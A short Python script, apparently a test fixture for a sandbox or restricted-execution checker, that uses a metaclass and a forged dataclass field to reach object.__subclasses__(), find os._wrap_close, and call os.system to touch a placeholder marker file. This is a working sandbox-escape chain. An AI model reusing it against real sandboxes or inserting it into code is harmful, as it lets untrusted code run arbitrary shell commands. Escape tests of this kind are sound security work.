import torch

before = torch.zeros(2, 3)
import dataclasses


class Meta(type):
    @property
    def __dataclass_fields__(cls):
        return {}


class Field:
    name, init, _field_type = "__subclasses__", True, None


@dataclasses.dataclass
class Real:
    x: int = 1


Field._field_type = dataclasses.fields(Real)[0]._field_type


class Hidden(metaclass=Meta):
    __dataclass_fields__ = {"x": Field}


for cls in object.__subclasses__():
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("touch @MARKER@")
after = before.sum(dim=0)
